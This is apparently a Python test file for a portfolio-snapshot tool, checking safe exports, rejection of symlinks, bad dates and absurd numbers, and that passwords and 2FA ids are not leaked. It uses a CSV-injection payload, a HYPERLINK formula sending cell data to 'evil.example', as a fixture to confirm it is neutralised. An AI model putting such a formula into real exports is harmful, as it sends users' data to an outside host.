"""Files the program writes, and secrets and output (issue 16, sections 3 and 4), through
the real command on SQLite and PostgreSQL:

- `export` never follows a symlink nor replaces a file, and refuses `--out ''`;
- CSV from `export` and `report --format csv` is safe for spreadsheets (a text cell that
  starts like a formula gets a quote; numbers stay numbers);
- `accounts[].label` is shown in reports and exports;
- JSON never holds Infinity/NaN; absurd benchmark closes are refused;
- out-of-range dates and financial years are usage errors (exit 2, one line);
- `run --from-raw` on a read-only database exits 75 in one line;
- a password Kite echoes never reaches the session cache, nor the 2FA request_id any
  output, the ledger or a notification.

Two sessions are stored by `snapshotter run` under a shifted clock (libfaketime).
"""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, time
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from snapshotter.reports.export import EXPORTED_TABLES, EXPORTED_VIEWS
from snapshotter.simulator import KiteSimulator, SimAccount, demo_accounts
from snapshotter.simulator._http import Request, Response, error, ok
from snapshotter.simulator.market import DemoMarket
from tests.conftest import (
    IN_CI,
    LOCAL_ONLY,
    PG_ADMIN_URL,
    Recorder,
    ShiftedClock,
    _faketime_lib,
    _offset_to,
    _postgres_available,
    config_dict,
    create_pg_database,
    drop_pg_database,
    query_rows,
    run_cli,
    write_config,
)

SESSIONS = [date(2026, 11, 26), date(2026, 11, 27)]
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
LABELS = ["Me", "-Spouse"]  # the second starts like a formula too


@dataclass(frozen=True)
class Stored:
    kind: str
    url: str
    config: Path
    accounts: list[str]


@pytest.fixture(scope="module")
def histories(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Stored | None]]:
    """Two session evenings into each database; account 1 holds a share whose
    tradingsymbol is a spreadsheet formula; both accounts have labels."""
    lib = _faketime_lib()
    if lib is None:
        if IN_CI:
            pytest.fail("libfaketime (Debian package faketime) is required in CI")
        pytest.skip("libfaketime not installed (apt-get install faketime)")
    tmp = tmp_path_factory.mktemp("files")
    urls: dict[str, str | None] = {"sqlite": f"sqlite:///{tmp / 'snapshots.db'}",
                                   "postgres": None}
    problem = _postgres_available()
    if problem and IN_CI:
        pytest.fail(f"PostgreSQL is required in CI and is not reachable: {problem}")
    if not problem:
        urls["postgres"] = create_pg_database(PG_ADMIN_URL)
    stored: dict[str, Stored | None] = {}
    try:
        for kind, url in urls.items():
            if url is None:
                stored[kind] = None
                continue
            accounts = demo_accounts(2, seed=11)
            markets = {a.user_id: DemoMarket(seed=i) for i, a in enumerate(accounts, 1)}
            clock = ShiftedClock(0)
            with KiteSimulator(accounts, clock=clock) as sim:
                sim.portfolio(accounts[0].user_id)["holdings"][0]["tradingsymbol"] = FORMULA
                data = config_dict(sim, accounts, url, tmp / f"state-{kind}")
                for entry, label in zip(data["accounts"], LABELS, strict=True):
                    entry["label"] = label
                config = write_config(tmp / f"{kind}.yaml", data)
                for day in SESSIONS:
                    clock.offset = _offset_to(datetime.combine(day, time(11, 30), UTC))
                    for user_id, market in markets.items():
                        market.step(sim.portfolio(user_id), day)
                    sim.expire_tokens()
                    result = run_cli("--config", str(config), "run", env={
                        **LOCAL_ONLY, "LD_PRELOAD": lib, "FAKETIME": f"{clock.offset:+d}",
                        "FAKETIME_DONT_FAKE_MONOTONIC": "0"})
                    assert result.returncode == 0, result.stderr
            stored[kind] = Stored(kind, url, config, [a.user_id for a in accounts])
        yield stored
    finally:
        if urls["postgres"]:
            drop_pg_database(PG_ADMIN_URL, urls["postgres"])


@pytest.fixture(params=["sqlite", "postgres"])
def history(request: pytest.FixtureRequest, histories: dict[str, Stored | None]) -> Stored:
    found = histories[request.param]
    if found is None:
        pytest.skip("PostgreSQL not reachable")
    return found


def _cli(stored: Stored, *args: str) -> Any:
    return run_cli("--config", str(stored.config), *args)


def _error_lines(stderr: str) -> list[str]:
    assert "Traceback" not in stderr, stderr
    return [line for line in stderr.splitlines() if line.startswith("error:")]


# --- 3. files the program writes -------------------------------------------------------------

def test_export_never_follows_a_symlink_nor_replaces_a_file(history: Stored,
                                                             tmp_path: Path) -> None:
    """Measured: a symlinked DIR/snapshots.csv overwrote its target outside DIR, and an
    existing holdings.csv was replaced, exit 0."""
    outside = tmp_path / "precious.txt"
    outside.write_text("keep me")
    for fmt in ("csv", "parquet"):
        out = tmp_path / f"linked-{fmt}"
        out.mkdir()
        (out / f"snapshots.{fmt}").symlink_to(outside)
        result = _cli(history, "export", "--format", fmt, "--out", str(out))
        assert result.returncode == 2, result.stderr
        assert _error_lines(result.stderr) == [
            f"error: --out {out}: snapshots.{fmt} is already there (an export never "
            "replaces a file); give an empty or new directory"]
        assert outside.read_text() == "keep me"
        assert sorted(p.name for p in out.iterdir()) == [f"snapshots.{fmt}"]  # nothing else
        # A dangling link too: creating its target would write outside DIR.
        (out / f"snapshots.{fmt}").unlink()
        (out / f"snapshots.{fmt}").symlink_to(tmp_path / "not-yet")
        assert _cli(history, "export", "--format", fmt, "--out", str(out)).returncode == 2
        assert not (tmp_path / "not-yet").exists()

    out = tmp_path / "existing"
    out.mkdir()
    (out / "holdings.csv").write_text("mine")
    result = _cli(history, "export", "--out", str(out))
    assert (result.returncode, _error_lines(result.stderr)) == (2, [
        f"error: --out {out}: holdings.csv is already there (an export never replaces a "
        "file); give an empty or new directory"])
    assert (out / "holdings.csv").read_text() == "mine"
    assert [p.name for p in out.iterdir()] == ["holdings.csv"]

    # A fresh directory: every file, private to the user, no temporary file left.
    fresh = tmp_path / "fresh"
    result = _cli(history, "export", "--out", str(fresh))
    assert result.returncode == 0, result.stderr
    names = sorted(p.name for p in fresh.iterdir())
    assert names == sorted(f"{n}.csv" for n in (*EXPORTED_TABLES, *EXPORTED_VIEWS))
    assert all((fresh / n).stat().st_mode & 0o077 == 0 for n in names)
    # ... and a second export there is refused whole.
    again = _cli(history, "export", "--out", str(fresh))
    assert again.returncode == 2 and "is already there" in again.stderr


def test_export_out_empty_is_refused(history: Stored, tmp_path: Path) -> None:
    """Measured: `--out ''` wrote 28 files into the working directory."""
    for command in (("export", "--out", ""), ("export", "--out", "  "),
                    ("chart", "--out", "")):
        result = run_cli("--config", str(history.config), *command, cwd=tmp_path)
        assert (result.returncode, _error_lines(result.stderr)) == (
            2, ["error: --out is empty; give a directory" if command[0] == "export"
                else "error: --out is empty; give a file or a directory"]), command
    assert list(tmp_path.iterdir()) == []


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_is_safe_for_spreadsheets(history: Stored, tmp_path: Path) -> None:
    """Measured: `=HYPERLINK(...)` as a tradingsymbol went out verbatim. A text cell
    starting with = + - @ tab or CR gets a single quote; numbers are untouched."""
    first = history.accounts[0]
    report = _cli(history, "report", "holdings", "--account", first, "--format", "csv")
    assert report.returncode == 0, report.stderr
    rows = _rows(report.stdout)
    symbols = {r["tradingsymbol"] for r in rows}
    assert "'" + FORMULA in symbols and FORMULA not in symbols
    # A negative number stays a number (e.g. a day's loss), unquoted.
    numbers = [r[c] for r in rows for c in ("day_pnl", "unrealised_pnl", "quantity_change")]
    negative = [n for n in numbers if n.startswith("-")]
    assert negative and all(float(n) < 0 for n in negative)
    assert not [n for n in numbers if n.startswith("'")]
    history_csv = _cli(history, "report", "history", FORMULA, "--format", "csv")
    assert {r["tradingsymbol"] for r in _rows(history_csv.stdout)} == {"'" + FORMULA}
    # JSON is not a spreadsheet: as stored.
    data = json.loads(_cli(history, "report", "holdings", "--account", first,
                           "--format", "json").stdout)
    assert FORMULA in {r["tradingsymbol"] for r in data}

    out = tmp_path / "export"
    assert _cli(history, "export", "--out", str(out)).returncode == 0
    for name in ("holdings", "holding_daily"):
        exported = _rows((out / f"{name}.csv").read_text(encoding="utf-8"))
        symbols = {r["tradingsymbol"] for r in exported}
        assert "'" + FORMULA in symbols and FORMULA not in symbols, name
        losses = [r["day_pnl" if name == "holding_daily" else "day_change"]
                  for r in exported]
        assert any(v.startswith("-") for v in losses) and all(
            not v.startswith("'") for v in losses), name


def test_labels_are_shown_in_reports_and_exports(history: Stored, tmp_path: Path) -> None:
    """README: `accounts[].label`, "a name shown in reports" (it never was)."""
    labels = dict(zip(history.accounts, LABELS, strict=True))
    table = _cli(history, "report", "summary")
    assert table.returncode == 0, table.stderr
    header, _, *lines = table.stdout.splitlines()
    assert header.split()[:2] == ["account", "label"]
    # the summary's ALL row has no label, and a note follows the table
    accounts = [line for line in lines if line.split()[0] in labels]
    assert {tuple(line.split()[:2]) for line in accounts} == set(labels.items())
    for kind in ("summary", "holdings", "pnl"):
        rows = _rows(_cli(history, "report", kind, "--format", "csv").stdout)
        assert list(rows[0])[:2] == ["account", "label"], kind
        assert {(r["account"], r["label"]) for r in rows if r["account"] != "ALL"} == {
            (a, "'" + label if label.startswith("-") else label)
            for a, label in labels.items()}, kind
    performance = json.loads(_cli(history, "report", "performance", "--format",
                                  "json").stdout)
    assert {r["account"]: r["label"] for r in performance} == {**labels, "ALL": None}

    out = tmp_path / "export"
    assert _cli(history, "export", "--format", "parquet", "--out", str(out)).returncode == 0
    import pyarrow.parquet as pq

    snapshots = pq.read_table(out / "snapshots.parquet").to_pandas()
    assert list(snapshots.columns)[1:3] == ["account", "label"]
    assert dict(zip(snapshots["account"], snapshots["label"], strict=True)) == labels
    pnl = pq.read_table(out / "pnl_daily.parquet").to_pandas()
    assert dict(zip(pnl["account"], pnl["label"], strict=True)) == labels
    assert "label" not in pq.read_table(out / "benchmark_daily.parquet").column_names


# --- 4. secrets and output ----------------------------------------------------------------

def test_json_never_holds_infinity(history: Stored, tmp_path: Path) -> None:
    """Measured: closes of 1e-300 and 1e300, both accepted by `benchmark import`, gave
    `"benchmark_return": Infinity`. Now the import refuses them; closes stored before
    that (here written straight into the table) give null and a note."""
    [before, after] = SESSIONS
    absurd = tmp_path / "absurd.csv"
    absurd.write_text(f"Date,Close\n{before},1e-300\n{after},1e300\n", encoding="utf-8")
    refused = _cli(history, "benchmark", "import", "ABSURD", str(absurd))
    assert refused.returncode == 2
    assert _error_lines(refused.stderr) == [
        f"error: {absurd}: line 2, column 'Close': '1e-300' is not a plausible close "
        "(expected 0.01 to 1,000,000,000) (and 1 more line(s))"]
    engine = sa.create_engine(history.url)
    try:
        with engine.begin() as conn:
            conn.execute(sa.text("DELETE FROM benchmark_daily WHERE name = 'ABSURD'"))
            conn.execute(sa.text("INSERT INTO benchmark_daily (name, date, close) VALUES "
                                 "('ABSURD', :d1, 1e-300), ('ABSURD', :d2, 1e300)"),
                         {"d1": before, "d2": after})
        result = _cli(history, "report", "performance", "--benchmark", "ABSURD",
                      "--format", "json")
        assert result.returncode == 0, result.stderr
        assert "Infinity" not in result.stdout and "NaN" not in result.stdout
        rows = json.loads(result.stdout)
        assert rows and all(r["benchmark_return"] is None and r["excess_return"] is None
                            for r in rows)
        assert "note: benchmark_return is empty for " in result.stderr
        assert "not a finite number" in result.stderr
        table = _cli(history, "report", "performance", "--benchmark", "ABSURD")
        assert "inf" not in table.stdout.replace("not a finite", "")
        assert "note: excess_return is empty for " in table.stdout
    finally:
        with engine.begin() as conn:
            conn.execute(sa.text("DELETE FROM benchmark_daily WHERE name = 'ABSURD'"))
        engine.dispose()


@pytest.mark.parametrize(("args", "message"), [
    (("report", "tax", "--fy", "9999-00"), "argument --fy: '9999-00' is out of range"),
    (("report", "tax", "--fy", "0000-01"), "argument --fy: '0000-01' is out of range"),
    (("benchmark", "fetch", "NIFTY50", "--from", "9999-12-20"),
     "argument --from: '9999-12-20' is out of range (a date from 1900-01-01 to 2199-12-31)"),
    (("benchmark", "fetch", "NIFTY50", "--to", "9999-12-31"),
     "argument --to: '9999-12-31' is out of range"),
    (("report", "performance", "--to", "0001-01-01"),
     "argument --to: '0001-01-01' is out of range"),
    (("report", "pnl", "--from", "9999-12-31"), "argument --from: '9999-12-31' is out of range"),
    (("report", "pnl", "--from", "2026-02-30"),
     "argument --from: '2026-02-30' is not a date: give YYYY-MM-DD, e.g. 2026-03-31"),
])
def test_out_of_range_input_is_a_usage_error(history: Stored, args: tuple[str, ...],
                                             message: str) -> None:
    """Measured: `ValueError: year 10000 is out of range`, `OverflowError`, exit 1."""
    result = _cli(history, *args)
    assert result.returncode == 2, result.stderr
    [line] = [ln for ln in result.stderr.splitlines() if "error:" in ln]
    assert message in line and "Traceback" not in result.stderr


def _read_only(url: str) -> str:
    """The same database, opened read-only."""
    if url.startswith("sqlite"):
        path = url.removeprefix("sqlite:///")
        return f"sqlite:///file:{path}?mode=ro&uri=true"
    return url


def test_run_from_raw_on_a_read_only_database(history: Stored, tmp_path: Path) -> None:
    """Measured: exit 1 and a line per account; `run` says it in one line, exit 75."""
    data = {"database": {"url": _read_only(history.url)}, "state_dir": str(tmp_path / "s"),
            "accounts": [{"user_id": a, "auth": "manual"} for a in history.accounts]}
    config = write_config(tmp_path / "ro.yaml", data)
    name = history.url.rsplit("/", 1)[1]
    engine = sa.create_engine(history.url, isolation_level="AUTOCOMMIT")
    try:
        if history.kind == "postgres":
            with engine.connect() as conn:
                conn.execute(sa.text(
                    f'ALTER DATABASE "{name}" SET default_transaction_read_only = on'))
        result = run_cli("--config", str(config), "run", "--from-raw")
    finally:
        if history.kind == "postgres":
            with engine.connect() as conn:
                conn.execute(sa.text(
                    f'ALTER DATABASE "{name}" SET default_transaction_read_only = off'))
        engine.dispose()
    assert result.returncode == 75, result.stderr
    [line] = _error_lines(result.stderr)
    assert line.startswith("error: database unreachable or not writable: ")
    assert name in line


# --- secrets: what Kite echoes ----------------------------------------------------------------

def _echoing(sim: KiteSimulator, monkeypatch: pytest.MonkeyPatch, route: str) -> None:
    """A Kite whose login (or 2FA) error quotes what was sent."""
    def login(req: Request) -> Response:
        return error(403, "UserException",
                     f"Invalid password {req.form.get('password')} for this user.")

    def login_ok(req: Request) -> Response:
        return ok({"user_id": req.form.get("user_id"), "request_id": REQUEST_ID,
                   "twofa_type": "totp", "twofa_types": ["totp"], "twofa_status": "active"})

    def twofa(req: Request) -> Response:
        return error(403, "TwoFAException",
                     f"Invalid TOTP for request {req.form.get('request_id')}; try again.")

    if route == "login":
        monkeypatch.setattr(sim, "_login", login)
    else:
        monkeypatch.setattr(sim, "_login", login_ok)
        monkeypatch.setattr(sim, "_twofa", twofa)


REQUEST_ID = "Rq7" + "x9Lk2" * 12  # a 2FA request_id (Kite's are 64 characters)


def _files_text(root: Path) -> str:
    return "".join(p.read_text(errors="replace") for p in root.rglob("*") if p.is_file())


@pytest.mark.parametrize("route", ["login", "twofa"])
def test_what_kite_echoes_stays_secret(database_url: str, sim: KiteSimulator,
                                       sim_accounts: list[SimAccount], tmp_path: Path,
                                       monkeypatch: pytest.MonkeyPatch, recorder: Recorder,
                                       route: str) -> None:
    """Measured: a login error echoing the password was masked everywhere but the session
    cache's rejected_reason; the 2FA request_id appeared in errors, snapshots.error and
    notifications."""
    victim = sim_accounts[0]
    _echoing(sim, monkeypatch, route)
    data = config_dict(sim, [victim], database_url, tmp_path / "state", notify={
        "urls": [recorder.base_url.replace("http://", "json://") + "/notify"],
        "on": ["failure"]})
    config = write_config(tmp_path / "config.yaml", data)
    result = run_cli("--config", str(config), "run", "-v", env=LOCAL_ONLY)
    assert result.returncode == 78, result.stderr
    secret = victim.password if route == "login" else REQUEST_ID
    said = "Invalid password" if route == "login" else "Invalid TOTP for request"
    assert said in result.stderr and "***" in result.stderr
    sent = recorder.wait(1)
    assert sent and said in sent[0][2]
    errors = [r["error"] for r in query_rows(database_url, "SELECT error FROM snapshots")]
    assert errors and all(said in e for e in errors)
    cache = json.loads((tmp_path / "state" / "sessions" / f"{victim.user_id}.json")
                       .read_text())
    assert said in cache["rejected_reason"]
    texts = [result.stdout, result.stderr, *errors, *(body for _, _, body in sent),
             _files_text(tmp_path / "state")]
    assert not [t for t in texts if secret in t]
    assert os.stat(tmp_path / "state").st_mode & 0o077 == 0
